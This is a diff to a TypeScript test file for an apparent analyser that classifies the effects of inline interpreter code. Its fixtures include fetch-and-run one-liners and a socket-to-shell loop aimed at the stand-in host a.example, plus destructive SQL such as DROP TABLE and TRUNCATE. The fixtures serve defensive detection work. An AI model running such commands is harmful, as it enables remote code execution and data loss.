@@ -239,6 +239,7 @@ describe('text that is run as code', () => {
     ['node -e', "eval(atob('MQ=='))", 'decoded'],
     ['node -e', "new Function(Buffer.from('MQ==', 'base64').toString())()", 'decoded'],
     ['perl -e', 'eval decode_base64("MQ==")', 'decoded'],
+    ['perl -e', 'system(pack("H*", "6c73"))', 'decoded'],
     ['ruby -e', 'eval(["MQ=="].pack("m").unpack1("m"))', 'decoded'],
     ['python3 -c', "exec(urllib.request.urlopen('http://a.example/x').read())", 'network'],
     ['node -e', "fetch('http://a.example/x').then(r => r.text()).then(eval)", 'network'],
@@ -253,4 +254,79 @@ describe('text that is run as code', () => {
     expect(paths(inline('python3 -c', `exec("import os; os.remove('/x')")`), 'delete')).toContain('/x');
     expect(effects(inline('python3 -c', "print(eval('1 + 1'))"), 'execute')).toEqual([]);
   });
+});
+
+describe('a file that is fetched and run by the same program', () => {
+  test.each([
+    ['python3 -c', "urllib.request.urlretrieve('http://a.example/x', '/tmp/x'); os.system('sh /tmp/x')"],
+    ['perl -e', 'getstore("http://a.example/x", "/tmp/x"); system("perl /tmp/x")'],
+    ['php -r', 'file_put_contents("/tmp/x", file_get_contents("http://a.example/x")); passthru("/tmp/x");'],
+    ['php -r', 'copy("http://a.example/x", "x.sh"); system("sh x.sh");'],
+    ['perl -e', '$c = IO::Socket::INET->new("a.example:53"); system$_ while <$c>'],
+  ])('%s %j', (program, code) => {
+    expect(effects(inline(program, code), 'execute')).toContainEqual(
+      expect.objectContaining({ from: 'network', host: 'a.example' }),
+    );
+  });
+
+  test.each([
+    ['python3 -c', "urllib.request.urlretrieve('http://a.example/x', 'x.csv'); os.system('wc -l y.csv')"],
+    ['php -r', 'echo file_get_contents("http://a.example/x");'],
+  ])('one that is only kept: %s %j', (program, code) => {
+    expect(effects(inline(program, code), 'execute')).toEqual([]);
+  });
+});
+
+describe('what a database is told to do', () => {
+  test.each([
+    ['python3 -c', "cursor.execute('DROP TABLE users')"],
+    ['node -e', "client.query('UPDATE products SET price = 0')"],
+    ['php -r', '$pdo->exec("TRUNCATE orders");'],
+    ['perl -e', '$dbh->do("DELETE FROM orders")'],
+    ['ruby -e', "db.execute('drop table users')"],
+  ])('%s %j', (program, code) => {
+    expect(effects(inline(program, code), 'resource')).toMatchObject([{ system: 'sql', destructive: true }]);
+  });
+
+  test('a database that is only in memory loses nothing', () => {
+    const code = (name: string) => `c = sqlite3.connect('${name}'); c.execute('delete from t')`;
+    expect(effects(inline('python3 -c', code(':memory:')), 'resource')).toEqual([]);
+    expect(effects(inline('python3 -c', code('a.db')), 'resource')).toHaveLength(1);
+    const other = "sqlite3.connect(':memory:'); pymysql.Connection(h).cursor().execute('drop table t')";
+    expect(effects(inline('python3 -c', other), 'resource')).toHaveLength(1);
+    expect(
+      effects(inline('python3 -c', `sqlite3.connect(':memory:'); ${code('a.db')}`), 'resource'),
+    ).toHaveLength(1);
+  });
+
+  test('reads and changes of single rows are none of it', () => {
+    expect(effects(inline('python3 -c', "c.execute('select 1')"), 'resource')).toEqual([]);
+    expect(effects(inline('node -e', "c.query('delete from a where id = 1')"), 'resource')).toMatchObject([
+      { destructive: false },
+    ]);
+  });
+});
+
+describe('rmSync takes folders only where it is told to', () => {
+  test.each([
+    ["fs.rmSync('x')", false],
+    ["fs.rmSync('x', { force: true })", false],
+    ["fs.rm('x', (error) => {})", false],
+    ["fs.rmSync('x', { recursive: true })", true],
+    ["fs.rmSync('x', options)", true],
+    ["fs.rmSync('x', { ...options })", true],
+    ["rimraf.sync('x')", true],
+    ["fs.rmSync(path.join('a', 'b'), { force: true })", false],
+    ['fs.rmSync(`{a}/x`, options)', true],
+    ["fs.rmSync('x', { ['recur' + 'sive']: true })", true],
+  ])('%s', (code, recursive) => {
+    expect(effects(inline('node -e', code), 'delete')).toMatchObject([{ recursive }]);
+  });
+});
+
+test('a folder that a program makes for a while is new, unless the program says what that means', () => {
+  const removed = (code: string) => effects(inline('python3 -c', code), 'delete').map(({ path }) => path);
+  expect(removed('d = tempfile.mkdtemp(); shutil.rmtree(d)')).toEqual(['/tmp/tmp.new']);
+  expect(removed("mkdtemp = lambda: '/x'; shutil.rmtree(mkdtemp())")).toEqual([null]);
+  expect(removed('class tempfile: mkdtemp = f\nshutil.rmtree(tempfile.mkdtemp())')).toEqual([null]);
 });
